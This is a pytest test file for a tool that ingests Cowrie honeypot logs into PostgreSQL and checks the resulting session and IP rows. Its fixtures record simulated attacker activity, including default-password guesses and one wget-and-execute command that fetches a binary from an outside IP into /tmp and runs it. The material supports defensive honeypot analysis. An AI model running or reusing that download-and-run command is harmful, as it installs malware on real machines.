"""`ipintel ingest` end to end: Cowrie logs → staging → merge_cowrie_events() → the tiers, on a real
PostgreSQL. Every test checks rows, not only that nothing raised."""

from __future__ import annotations

import gzip
import io
import ipaddress
import json
import os
import re
import signal
import subprocess
import sys
import time
import uuid
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg.rows import dict_row
from rich.console import Console

from ipintel import cli, cowrie, demo_logs, ingest
from ipintel.locks import Lock, LockHeld
from ipintel.progress import Reporter
from tests import cowrie_large, cowrie_oracle


def ts(text: str) -> datetime:
    return datetime.fromisoformat(text).astimezone(UTC)


def ip(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address:
    return ipaddress.ip_address(text)


def query(dsn: str, sql: str, params: dict[str, Any] | None = None) -> list[dict[str, Any]]:
    with psycopg.connect(dsn, row_factory=dict_row) as conn:
        return conn.execute(sql, params).fetchall()


def sessions(dsn: str) -> dict[str, dict[str, Any]]:
    rows = query(dsn, """SELECT session_id, sensor, protocol, source_ip, first_event_at, last_event_at,
                                src_port, dst_ip, dst_port, duration_seconds, client_version, hassh,
                                login_attempts, login_successes, command_count, download_count, event_count
                         FROM ipintel.session_summaries""")
    return {r.pop("session_id"): r for r in rows}


def ip_rows(dsn: str) -> dict[Any, dict[str, Any]]:
    rows = query(dsn, "SELECT ip, first_seen, last_seen, session_count FROM ipintel.ip_inventory")
    return {r.pop("ip"): r for r in rows}


def snapshot(dsn: str) -> dict[str, list[tuple[Any, ...]]]:
    """Every row (every column) of the tiers and of the rejects, in a stable order."""
    tables = {
        "asn_inventory": "asn", "ip_inventory": "ip", "session_summaries": "session_id",
        "ip_asn_history": "history_id", "ingest_rejects": "reject_id",
    }
    with psycopg.connect(dsn) as conn:
        return {t: conn.execute(f"SELECT * FROM ipintel.{t} ORDER BY {key}").fetchall()
                for t, key in tables.items()}


def totals(dsn: str) -> dict[str, int]:
    (row,) = query(dsn, """
        SELECT (SELECT count(*) FROM ipintel.session_summaries) AS sessions,
               (SELECT sum(event_count) FROM ipintel.session_summaries) AS events,
               (SELECT sum(login_attempts) FROM ipintel.session_summaries) AS login_attempts,
               (SELECT sum(command_count) FROM ipintel.session_summaries) AS commands,
               (SELECT count(*) FROM ipintel.ip_inventory) AS ips,
               (SELECT sum(session_count) FROM ipintel.ip_inventory) AS ip_session_count""")
    return {k: int(v or 0) for k, v in row.items()}


def runs(dsn: str) -> list[dict[str, Any]]:
    return query(dsn, "SELECT * FROM ipintel.ingest_runs ORDER BY run_id")


def rejects(dsn: str) -> list[tuple[str, int, str]]:
    return [(r["path"], r["line_no"], r["reason"]) for r in query(
        dsn, "SELECT path, line_no, reason FROM ipintel.ingest_rejects ORDER BY path, line_no")]


def cowrie_line(eventid: str, session: str, src_ip: str, timestamp: str, sensor: str = "hp-fra1",
                message: Any = "", **fields: Any) -> bytes:
    """One line as Cowrie's JSON output writes it: compact, non-ASCII escaped, its key order."""
    record = {"eventid": eventid, **fields, "message": message, "sensor": sensor,
              "timestamp": timestamp, "src_ip": src_ip, "session": session}
    return json.dumps(record, separators=(",", ":")).encode() + b"\n"


def no_newlines(text: str) -> str:
    """rich wraps long lines at the console width (80 off a terminal): undo that for matching."""
    return text.replace("\n", "")


# ------------------------------------------------------------------------------------------------
# 1. What one log turns into
# ------------------------------------------------------------------------------------------------

# Written the way Cowrie 2.x writes them. Session 3f2a9c1d7b4e: an SSH bruteforcer that gets in,
# runs commands and downloads malware; 8e1b0f5a2c6d: IPv6 over telnet; 5d4c3b2a1f0e and
# a9b8c7d6e5f4: one IPv4 attacker, once through a dual-stack listener (IPv4-mapped IPv6), once not.
HASSH = "ec7378c1a92f5a8dde7e8b7a1ddf33d1"
LOG_LINES = [
    r'{"eventid":"cowrie.session.connect","src_ip":"218.92.0.112","src_port":48122,"dst_ip":"172.31.12.7","dst_port":2222,"session":"3f2a9c1d7b4e","protocol":"ssh","message":"New connection: 218.92.0.112:48122 (172.31.12.7:2222) [session: 3f2a9c1d7b4e]","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:02.118374Z"}',
    r'{"eventid":"cowrie.client.version","version":"SSH-2.0-libssh2_1.9.0","message":"Remote SSH version: SSH-2.0-libssh2_1.9.0","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:02.412907Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.client.kex","hassh":"ec7378c1a92f5a8dde7e8b7a1ddf33d1","hasshAlgorithms":"ecdh-sha2-nistp256,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1;aes128-ctr,aes192-ctr,aes256-ctr,aes256-cbc;hmac-sha2-256,hmac-sha1;none","kexAlgs":["ecdh-sha2-nistp256","diffie-hellman-group-exchange-sha256","diffie-hellman-group14-sha1"],"keyAlgs":["ecdsa-sha2-nistp256","ssh-rsa","ssh-dss"],"encCS":["aes128-ctr","aes192-ctr","aes256-ctr","aes256-cbc"],"macCS":["hmac-sha2-256","hmac-sha1"],"compCS":["none"],"langCS":[""],"message":"SSH client hassh fingerprint: ec7378c1a92f5a8dde7e8b7a1ddf33d1","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:02.530144Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.login.failed","username":"root","password":"123456","message":"login attempt [root/123456] failed","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:04.002311Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.connect","src_ip":"2a01:4f8:c012:8d2::1","src_port":50112,"dst_ip":"172.31.12.7","dst_port":2223,"session":"8e1b0f5a2c6d","protocol":"telnet","message":"New connection: 2a01:4f8:c012:8d2::1:50112 (172.31.12.7:2223) [session: 8e1b0f5a2c6d]","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:05.000001Z"}',
    r'{"eventid":"cowrie.login.failed","username":"admin","password":"admin","message":"login attempt [admin/admin] failed","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:06.771020Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.login.failed","username":"\u0430\u0434\u043c\u0438\u043d","password":"\u043f\u0430\u0440\u043e\u043b\u044c","message":"login attempt [\u0430\u0434\u043c\u0438\u043d/\u043f\u0430\u0440\u043e\u043b\u044c] failed","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:07.250000Z","src_ip":"2a01:4f8:c012:8d2::1","session":"8e1b0f5a2c6d"}',
    r'{"eventid":"cowrie.login.success","username":"root","password":"P@ssw0rd","message":"login attempt [root/P@ssw0rd] succeeded","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:08.250000Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.params","arch":"linux-x64-lsb","message":[],"sensor":"hp-fra1","timestamp":"2026-11-01T08:15:08.400000Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.command.input","input":"uname -a","message":"CMD: uname -a","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:09.104452Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.command.input","input":"nvidia-smi --list-gpus","message":"CMD: nvidia-smi --list-gpus","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:10.880001Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.command.failed","input":"nvidia-smi --list-gpus","message":"Command not found: nvidia-smi --list-gpus","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:10.902113Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.closed","duration":6.5,"message":"Connection lost after 6 seconds","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:11.500001Z","src_ip":"2a01:4f8:c012:8d2::1","session":"8e1b0f5a2c6d"}',
    r'{"eventid":"cowrie.command.input","input":"cd /tmp; wget -q http://45.148.10.80/x86_64 -O .x; chmod +x .x; ./.x","message":"CMD: cd /tmp; wget -q http://45.148.10.80/x86_64 -O .x; chmod +x .x; ./.x","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:12.500000Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.file_download","url":"http://45.148.10.80/x86_64","outfile":"var/lib/cowrie/downloads/0b5d3b2c1e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b","shasum":"0b5d3b2c1e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b","message":"Downloaded URL (http://45.148.10.80/x86_64) with SHA-256 0b5d3b2c1e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b to var/lib/cowrie/downloads/0b5d3b2c1e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:15.125000Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.sensor.heartbeat","uptime":86400,"message":"an eventid this ipintel does not know","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:15.900000Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.closed","duration":14.2,"message":"Connection lost after 14 seconds","sensor":"hp-fra1","timestamp":"2026-11-01T08:15:16.318374Z","src_ip":"218.92.0.112","session":"3f2a9c1d7b4e"}',
    r'{"eventid":"cowrie.session.connect","src_ip":"::ffff:45.148.10.80","src_port":39990,"dst_ip":"::ffff:172.31.12.7","dst_port":2222,"session":"5d4c3b2a1f0e","protocol":"ssh","message":"New connection: ::ffff:45.148.10.80:39990 (::ffff:172.31.12.7:2222) [session: 5d4c3b2a1f0e]","sensor":"hp-fra1","timestamp":"2026-11-01T09:02:44.000000Z"}',
    r'{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go","sensor":"hp-fra1","timestamp":"2026-11-01T09:02:44.310000Z","src_ip":"::ffff:45.148.10.80","session":"5d4c3b2a1f0e"}',
    r'{"eventid":"cowrie.login.failed","username":"ubuntu","password":"ubuntu","message":"login attempt [ubuntu/ubuntu] failed","sensor":"hp-fra1","timestamp":"2026-11-01T09:02:45.900000Z","src_ip":"::ffff:45.148.10.80","session":"5d4c3b2a1f0e"}',
    r'{"eventid":"cowrie.session.closed","duration":2.5,"message":"Connection lost after 2 seconds","sensor":"hp-fra1","timestamp":"2026-11-01T09:02:46.500000Z","src_ip":"::ffff:45.148.10.80","session":"5d4c3b2a1f0e"}',
    r'{"eventid":"cowrie.session.connect","src_ip":"45.148.10.80","src_port":40122,"dst_ip":"172.31.12.7","dst_port":2222,"session":"a9b8c7d6e5f4","protocol":"ssh","message":"New connection: 45.148.10.80:40122 (172.31.12.7:2222) [session: a9b8c7d6e5f4]","sensor":"hp-fra1","timestamp":"2026-11-01T17:40:00.000000Z"}',
    r'{"eventid":"cowrie.login.failed","username":"root","password":"root","message":"login attempt [root/root] failed","sensor":"hp-fra1","timestamp":"2026-11-01T17:40:02.250000Z","src_ip":"45.148.10.80","session":"a9b8c7d6e5f4"}',
]


def test_one_log_becomes_exact_session_and_ip_rows(db: str, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text("\n".join(LOG_LINES) + "\n", encoding="ascii")

    summary = ingest.ingest(db, [str(log)])

    assert (summary.files_read, summary.lines, summary.events, summary.rejects) == (1, 23, 23, 0)
    assert (summary.sessions_new, summary.sessions_updated, summary.ips_new) == (4, 0, 3)
    assert summary.event_counts["cowrie.sensor.heartbeat"] == 1
    assert summary.event_counts["cowrie.login.failed"] == 5

    common = {"sensor": "hp-fra1", "dst_ip": ip("172.31.12.7")}
    assert sessions(db) == {
        "3f2a9c1d7b4e": {
            **common, "protocol": "ssh", "source_ip": ip("218.92.0.112"),
            "first_event_at": ts("2026-11-01T08:15:02.118374Z"), "last_event_at": ts("2026-11-01T08:15:16.318374Z"),
            "src_port": 48122, "dst_port": 2222, "duration_seconds": 14.2,
            "client_version": "SSH-2.0-libssh2_1.9.0", "hassh": HASSH,
            # 2 failed + 1 success; command.failed follows an input and is not a second command;
            # session.params and the unknown eventid are counted as events only.
            "login_attempts": 3, "login_successes": 1, "command_count": 3, "download_count": 1,
            "event_count": 14,
        },
        "8e1b0f5a2c6d": {
            **common, "protocol": "telnet", "source_ip": ip("2a01:4f8:c012:8d2::1"),
            "first_event_at": ts("2026-11-01T08:15:05.000001Z"), "last_event_at": ts("2026-11-01T08:15:11.500001Z"),
            "src_port": 50112, "dst_port": 2223, "duration_seconds": 6.5, "client_version": None, "hassh": None,
            "login_attempts": 1, "login_successes": 0, "command_count": 0, "download_count": 0, "event_count": 3,
        },
        "5d4c3b2a1f0e": {
            **common, "protocol": "ssh", "source_ip": ip("45.148.10.80"),  # dst ::ffff:172.31.12.7 too
            "first_event_at": ts("2026-11-01T09:02:44Z"), "last_event_at": ts("2026-11-01T09:02:46.5Z"),
            "src_port": 39990, "dst_port": 2222, "duration_seconds": 2.5, "client_version": "SSH-2.0-Go",
            "hassh": None, "login_attempts": 1, "login_successes": 0, "command_count": 0, "download_count": 0,
            "event_count": 4,
        },
        "a9b8c7d6e5f4": {  # never closed (sensor restart): no duration
            **common, "protocol": "ssh", "source_ip": ip("45.148.10.80"),
            "first_event_at": ts("2026-11-01T17:40:00Z"), "last_event_at": ts("2026-11-01T17:40:02.25Z"),
            "src_port": 40122, "dst_port": 2222, "duration_seconds": None, "client_version": None, "hassh": None,
            "login_attempts": 1, "login_successes": 0, "command_count": 0, "download_count": 0, "event_count": 2,
        },
    }
    # IPv4-mapped IPv6 is stored as the IPv4 address: one row for both spellings, no ::ffff: row.
    assert ip_rows(db) == {
        ip("218.92.0.112"): {"first_seen": ts("2026-11-01T08:15:02.118374Z"),
                             "last_seen": ts("2026-11-01T08:15:16.318374Z"), "session_count": 1},
        ip("2a01:4f8:c012:8d2::1"): {"first_seen": ts("2026-11-01T08:15:05.000001Z"),
                                     "last_seen": ts("2026-11-01T08:15:11.500001Z"), "session_count": 1},
        ip("45.148.10.80"): {"first_seen": ts("2026-11-01T09:02:44Z"),
                             "last_seen": ts("2026-11-01T17:40:02.25Z"), "session_count": 2},
    }
    (run,) = runs(db)
    assert run["status"] == "succeeded" and run["finished_at"] is not None
    assert (run["files_read"], run["lines_read"], run["events_loaded"], run["sessions_new"], run["ips_new"]) == (1, 23, 23, 4, 3)
    assert run["event_counts"] == dict(summary.event_counts)
    assert query(db, "SELECT count(*) AS n FROM ipintel_staging.cowrie_events") == [{"n": 0}]


# ------------------------------------------------------------------------------------------------
# 2. A session across midnight, split over two daily files
# ------------------------------------------------------------------------------------------------

SPLIT = "7e6d5c4b3a29"
SPLIT_IP = "61.177.172.60"


def write_split_session_files(folder: Path) -> tuple[Path, Path]:
    folder.mkdir()
    day1 = [
        cowrie_line("cowrie.session.connect", "1a2b3c4d5e6f", "218.92.0.112", "2026-11-01T21:10:00.000000Z",
                    src_port=52000, dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"),
        cowrie_line("cowrie.session.closed", "1a2b3c4d5e6f", "218.92.0.112", "2026-11-01T21:10:03.000000Z",
                    duration=3.0),
        cowrie_line("cowrie.session.connect", SPLIT, SPLIT_IP, "2026-11-01T23:59:57.500000Z",
                    src_port=44444, dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"),
        cowrie_line("cowrie.client.version", SPLIT, SPLIT_IP, "2026-11-01T23:59:57.900000Z",
                    version="SSH-2.0-paramiko_2.11.0"),
        cowrie_line("cowrie.client.kex", SPLIT, SPLIT_IP, "2026-11-01T23:59:58.100000Z", hassh=HASSH),
        cowrie_line("cowrie.login.failed", SPLIT, SPLIT_IP, "2026-11-01T23:59:59.600000Z",
                    username="root", password="root"),
    ]
    day2 = [
        cowrie_line("cowrie.login.failed", SPLIT, SPLIT_IP, "2026-11-02T00:00:01.200000Z",
                    username="root", password="toor"),
        cowrie_line("cowrie.login.success", SPLIT, SPLIT_IP, "2026-11-02T00:00:02.900000Z",
                    username="root", password="1qaz@WSX"),
        cowrie_line("cowrie.command.input", SPLIT, SPLIT_IP, "2026-11-02T00:00:04.000000Z", input="uname -m"),
        cowrie_line("cowrie.session.closed", SPLIT, SPLIT_IP, "2026-11-02T00:00:05.500000Z", duration=8.0),
        cowrie_line("cowrie.session.connect", "0f9e8d7c6b5a", SPLIT_IP, "2026-11-02T06:30:00.000000Z",
                    src_port=44500, dst_ip="172.31.12.7", dst_port=23, protocol="telnet"),
        cowrie_line("cowrie.session.closed", "0f9e8d7c6b5a", SPLIT_IP, "2026-11-02T06:30:09.000000Z",
                    duration=9.0),
    ]
    first = folder / "cowrie.json.2026-11-01"
    first.write_bytes(b"".join(day1))
    second = folder / "cowrie.json.2026-11-02.gz"
    second.write_bytes(gzip.compress(b"".join(day2), mtime=0))
    return first, second


@pytest.mark.parametrize("order", ["day1 then day2", "day2 then day1", "both in one run"])
def test_session_split_over_two_files_is_one_row_in_any_order(db: str, tmp_path: Path, order: str) -> None:
    first, second = write_split_session_files(tmp_path / "logs")
    if order == "both in one run":
        ingest.ingest(db, [str(second), str(first)])
    else:
        a, b = (first, second) if order == "day1 then day2" else (second, first)
        ingest.ingest(db, [str(a)])
        later = ingest.ingest(db, [str(b)])
        assert later.sessions_updated == 1  # the split session, completed by the other file

    rows = sessions(db)
    assert rows[SPLIT] == {
        "sensor": "hp-fra1", "protocol": "ssh", "source_ip": ip(SPLIT_IP),
        "first_event_at": ts("2026-11-01T23:59:57.5Z"), "last_event_at": ts("2026-11-02T00:00:05.5Z"),
        "src_port": 44444, "dst_ip": ip("172.31.12.7"), "dst_port": 2222, "duration_seconds": 8.0,
        "client_version": "SSH-2.0-paramiko_2.11.0", "hassh": HASSH,
        "login_attempts": 3, "login_successes": 1, "command_count": 1, "download_count": 0, "event_count": 8,
    }
    assert len(rows) == 3
    assert ip_rows(db) == {
        ip("218.92.0.112"): {"first_seen": ts("2026-11-01T21:10:00Z"), "last_seen": ts("2026-11-01T21:10:03Z"),
                             "session_count": 1},
        ip(SPLIT_IP): {"first_seen": ts("2026-11-01T23:59:57.5Z"), "last_seen": ts("2026-11-02T06:30:09Z"),
                       "session_count": 2},
    }


# ------------------------------------------------------------------------------------------------
# 3. Idempotence: the same files again, and the same files rotated
# ------------------------------------------------------------------------------------------------


def test_reingest_and_rotated_files_change_nothing(db: str, tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    generated = demo_logs.generate(logs, seed=11, sessions=150, days=2, sensors=2)
    assert len(generated.files) == 4  # per sensor: cowrie.json.2026-11-01.gz and the live cowrie.json

    first = ingest.ingest(db, [str(logs)])
    assert (first.files_read, first.files_skipped, first.rejects) == (4, 0, 0)
    assert totals(db)["sessions"] == generated.sessions
    before = snapshot(db)
    files_before = query(db, "SELECT * FROM ipintel.ingest_files ORDER BY file_id")

    again = ingest.ingest(db, [str(logs)])
    assert (again.files_read, again.files_skipped, again.lines, again.events) == (0, 4, 0, 0)
    assert snapshot(db) == before
    assert query(db, "SELECT * FROM ipintel.ingest_files ORDER BY file_id") == files_before
    run = runs(db)[-1]
    assert (run["status"], run["files_read"], run["files_skipped"], run["lines_read"]) == ("succeeded", 0, 4, 0)

    # Rotation: one sensor's live file renamed and gzipped, the other's only renamed (delaycompress).
    live_a, live_b = (folder / "cowrie.json" for folder in sorted(p for p in logs.iterdir()))
    rotated_a = live_a.with_name("cowrie.json.2026-11-02.gz")
    rotated_a.write_bytes(gzip.compress(live_a.read_bytes(), mtime=0))
    live_a.unlink()
    rotated_b = live_b.rename(live_b.with_name("cowrie.json.2026-11-02"))

    rotated = ingest.ingest(db, [str(logs)])
    assert (rotated.files_read, rotated.files_skipped, rotated.lines, rotated.events) == (0, 4, 0, 0)
    assert snapshot(db) == before
    files = query(db, "SELECT path, finished FROM ipintel.ingest_files ORDER BY file_id")
    assert len(files) == 4  # recognised by content, not by name: no new file rows
    assert {"path": str(rotated_a.resolve()), "finished": True} in files  # a whole gzip cannot grow
    run = runs(db)[-1]
    assert (run["files_read"], run["files_skipped"]) == (0, 4)
    assert rotated_b.exists()

    third = ingest.ingest(db, [str(logs)])
    assert (third.files_read, third.files_skipped, third.events) == (0, 4, 0)
    assert snapshot(db) == before


# ------------------------------------------------------------------------------------------------
# 4. The live file grows
# ------------------------------------------------------------------------------------------------


def test_appended_tail_loads_only_new_complete_lines(db: str, tmp_path: Path) -> None:
    live = tmp_path / "cowrie.json"
    a, b, a_ip, b_ip = "c1c2c3c4c5c6", "d1d2d3d4d5d6", "159.89.14.20", "2604:a880:400:d1::7b:3001"
    head = [
        cowrie_line("cowrie.session.connect", a, a_ip, "2026-11-03T10:00:00Z", src_port=40000,
                    dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"),
        cowrie_line("cowrie.client.version", a, a_ip, "2026-11-03T10:00:00.5Z", version="SSH-2.0-Go"),
        cowrie_line("cowrie.login.failed", a, a_ip, "2026-11-03T10:00:01Z", username="pi", password="raspberry"),
        cowrie_line("cowrie.login.success", a, a_ip, "2026-11-03T10:00:02Z", username="root", password="admin"),
        cowrie_line("cowrie.session.connect", b, b_ip, "2026-11-03T10:00:03Z", src_port=40001,
                    dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"),
    ]
    command = cowrie_line("cowrie.command.input", a, a_ip, "2026-11-03T10:00:04Z", input="cat /proc/cpuinfo")
    cut = len(command) // 2
    live.write_bytes(b"".join(head) + command[:cut])  # Cowrie is in the middle of writing a line
    complete = len(b"".join(head))

    first = ingest.ingest(db, [str(live)])
    assert (first.lines, first.events, first.rejects) == (5, 5, 0)
    rows = sessions(db)
    assert (rows[a]["event_count"], rows[a]["command_count"], rows[a]["login_successes"]) == (4, 0, 1)
    (record,) = query(db, "SELECT bytes_ingested, lines_ingested, fingerprint_bytes, finished FROM ipintel.ingest_files")
    assert record == {"bytes_ingested": complete, "lines_ingested": 5, "fingerprint_bytes": live.stat().st_size,
                      "finished": False}

    nothing_new = ingest.ingest(db, [str(live)])  # the half line is still not finished
    assert (nothing_new.lines, nothing_new.events, nothing_new.rejects) == (0, 0, 0)
    assert sessions(db)[a]["event_count"] == 4

    # The line is finished, and enough follows to grow the file past the 4 KiB fingerprint.
    tail = [command[cut:]]
    tail += [cowrie_line("cowrie.login.failed", b, b_ip, f"2026-11-03T10:00:{10 + i:02d}Z", username="root",
                         password=f"Passw0rd{i}") for i in range(20)]
    tail += [cowrie_line("cowrie.session.closed", a, a_ip, "2026-11-03T10:00:40Z", duration=40.0),
             cowrie_line("cowrie.session.closed", b, b_ip, "2026-11-03T10:00:41Z", duration=38.0)]
    with live.open("ab") as fh:
        fh.write(b"".join(tail))
    assert live.stat().st_size > cowrie.FINGERPRINT_BYTES

    second = ingest.ingest(db, [str(live)])
    assert (second.files_read, second.lines, second.events, second.rejects) == (1, 23, 23, 0)
    assert (second.sessions_new, second.sessions_updated, second.ips_new) == (0, 2, 0)
    rows = sessions(db)
    assert {k: rows[a][k] for k in ("event_count", "command_count", "login_attempts", "duration_seconds")} == {
        "event_count": 6, "command_count": 1, "login_attempts": 2, "duration_seconds": 40.0}
    assert {k: rows[b][k] for k in ("event_count", "login_attempts", "duration_seconds", "last_event_at")} == {
        "event_count": 22, "login_attempts": 20, "duration_seconds": 38.0,
        "last_event_at": ts("2026-11-03T10:00:41Z")}
    assert {k: v["session_count"] for k, v in ip_rows(db).items()} == {ip(a_ip): 1, ip(b_ip): 1}
    (record,) = query(db, "SELECT bytes_ingested, lines_ingested, fingerprint_bytes FROM ipintel.ingest_files")
    assert record == {"bytes_ingested": live.stat().st_size, "lines_ingested": 28,
                      "fingerprint_bytes": cowrie.FINGERPRINT_BYTES}

    with live.open("ab") as fh:
        fh.write(cowrie_line("cowrie.session.connect", "e1e2e3e4e5e6", a_ip, "2026-11-03T11:00:00Z",
                             src_port=40002, dst_ip="172.31.12.7", dst_port=2222, protocol="telnet"))
    third = ingest.ingest(db, [str(live)])
    assert (third.lines, third.events, third.sessions_new) == (1, 1, 1)
    assert totals(db) == {"sessions": 3, "events": 29, "login_attempts": 22, "commands": 1, "ips": 2,
                          "ip_session_count": 3}


# A last line without a newline: Cowrie may be writing it (the live file), or it is all there will
# ever be of it (a rotated or quiet file). Three lines of one session, the last one unterminated.
PENDING_SID, PENDING_IP = "f1f2f3f4f5f6", "193.32.162.9"
PENDING_LINES = [
    cowrie_line("cowrie.session.connect", PENDING_SID, PENDING_IP, "2026-11-28T23:59:00Z", src_port=40100,
                dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"),
    cowrie_line("cowrie.login.failed", PENDING_SID, PENDING_IP, "2026-11-28T23:59:01Z", username="root",
                password="toor"),
    cowrie_line("cowrie.session.closed", PENDING_SID, PENDING_IP, "2026-11-28T23:59:05Z", duration=5.0)[:-1],
]
QUIET = cowrie.QUIET_SECONDS + 60  # seconds since the last write of a file no longer written


def counts(summary: ingest.IngestSummary) -> tuple[int, ...]:
    """(files read, skipped, pending, empty, lines, events) of one run."""
    return (summary.files_read, summary.files_skipped, summary.files_pending, summary.files_empty,
            summary.lines, summary.events)


def age(path: Path, seconds: float) -> None:
    then = time.time() - seconds
    os.utime(path, (then, then))


def test_last_line_without_newline_of_a_quiet_file_loads_once(db: str, tmp_path: Path) -> None:
    log = tmp_path / "attack.json"
    log.write_bytes(b"".join(PENDING_LINES))
    age(log, QUIET)

    first = ingest.ingest(db, [str(log)])
    assert counts(first) == (1, 0, 0, 0, 3, 3)
    assert sessions(db)[PENDING_SID]["duration_seconds"] == 5.0  # the closed event is in
    (record,) = query(db, "SELECT bytes_ingested, lines_ingested FROM ipintel.ingest_files")
    assert record == {"bytes_ingested": log.stat().st_size, "lines_ingested": 3}

    again = ingest.ingest(db, [str(log)])
    assert counts(again) == (0, 1, 0, 0, 0, 0)
    assert totals(db)["events"] == 3

    # It was not over after all: the line gets its newline and a new line follows. The newline
    # belongs to the line already loaded; only the new line loads.
    with log.open("ab") as fh:
        fh.write(b"\n" + cowrie_line("cowrie.session.connect", "0a0b0c0d0e0f", PENDING_IP, "2026-11-29T00:10:00Z"))
    grown = ingest.ingest(db, [str(log)])
    assert counts(grown) == (1, 0, 0, 0, 1, 1)
    assert totals(db)["events"] == 4 and totals(db)["sessions"] == 2
    (record,) = query(db, "SELECT bytes_ingested, lines_ingested FROM ipintel.ingest_files")
    assert record == {"bytes_ingested": log.stat().st_size, "lines_ingested": 4}


def test_live_file_waits_for_its_last_line_and_never_says_already_ingested(db: str, tmp_path: Path) -> None:
    live = tmp_path / "cowrie.json"
    live.write_bytes(PENDING_LINES[0][:-1])  # Cowrie is writing the first line of a new file
    out = io.StringIO()
    reporter = Reporter(Console(file=out, width=400), interactive=False)

    first = ingest.ingest(db, [str(live)], reporter=reporter)
    assert counts(first) == (0, 0, 1, 0, 0, 0)
    assert f"{live}: waiting for the last line to end ({len(PENDING_LINES[0]) - 1:,} bytes so far)" in out.getvalue()
    assert query(db, "SELECT * FROM ipintel.ingest_files") == []
    assert (runs(db)[-1]["files_read"], runs(db)[-1]["files_skipped"]) == (0, 0)

    live.write_bytes(b"".join(PENDING_LINES))  # that line ended; two more, the last one unfinished
    second = ingest.ingest(db, [str(live)])
    assert counts(second) == (1, 0, 1, 0, 2, 2)

    nothing_new = ingest.ingest(db, [str(live)])  # still being written: pending, not "already ingested"
    assert counts(nothing_new) == (0, 0, 1, 0, 0, 0)
    assert (runs(db)[-1]["files_read"], runs(db)[-1]["files_skipped"]) == (0, 0)

    with live.open("ab") as fh:
        fh.write(b"\n")
    finished = ingest.ingest(db, [str(live)])
    assert counts(finished) == (1, 0, 0, 0, 1, 1)
    done = ingest.ingest(db, [str(live)])
    assert counts(done) == (0, 1, 0, 0, 0, 0)
    assert totals(db)["events"] == 3 and sessions(db)[PENDING_SID]["event_count"] == 3


@pytest.mark.parametrize("rotation", ["renamed", "gzipped"])
def test_rotated_file_loads_the_last_line_the_live_file_left(db: str, tmp_path: Path, rotation: str) -> None:
    live = tmp_path / "cowrie.json"
    live.write_bytes(b"".join(PENDING_LINES))
    first = ingest.ingest(db, [str(tmp_path)])
    assert counts(first) == (1, 0, 1, 0, 2, 2)

    # Midnight: Cowrie renames the file (logrotate may gzip it) and never writes to it again;
    # a rotated file is complete however recently it was written.
    if rotation == "renamed":
        live.rename(tmp_path / "cowrie.json.2026-11-28")
    else:
        (tmp_path / "cowrie.json.2026-11-28.gz").write_bytes(gzip.compress(live.read_bytes(), mtime=0))
        live.unlink()
    rotated = ingest.ingest(db, [str(tmp_path)])
    assert counts(rotated) == (1, 0, 0, 0, 1, 1)
    again = ingest.ingest(db, [str(tmp_path)])
    assert counts(again) == (0, 1, 0, 0, 0, 0)
    assert totals(db)["events"] == 3 and sessions(db)[PENDING_SID]["duration_seconds"] == 5.0
    (record,) = query(db, "SELECT lines_ingested FROM ipintel.ingest_files")
    assert record["lines_ingested"] == 3


def test_progress_advances_by_the_bytes_read(db: str, tmp_path: Path) -> None:
    live = tmp_path / "cowrie.json"
    live.write_text("\n".join(LOG_LINES) + "\n", encoding="ascii")

    class Recorder(Reporter):
        advanced = 0

        def advance(self, n: int, **info: object) -> None:
            Recorder.advanced += n
            super().advance(n, **info)

    ingest.ingest(db, [str(live)], reporter=Recorder(interactive=False), chunk_lines=5)
    assert Recorder.advanced == live.stat().st_size


# ------------------------------------------------------------------------------------------------
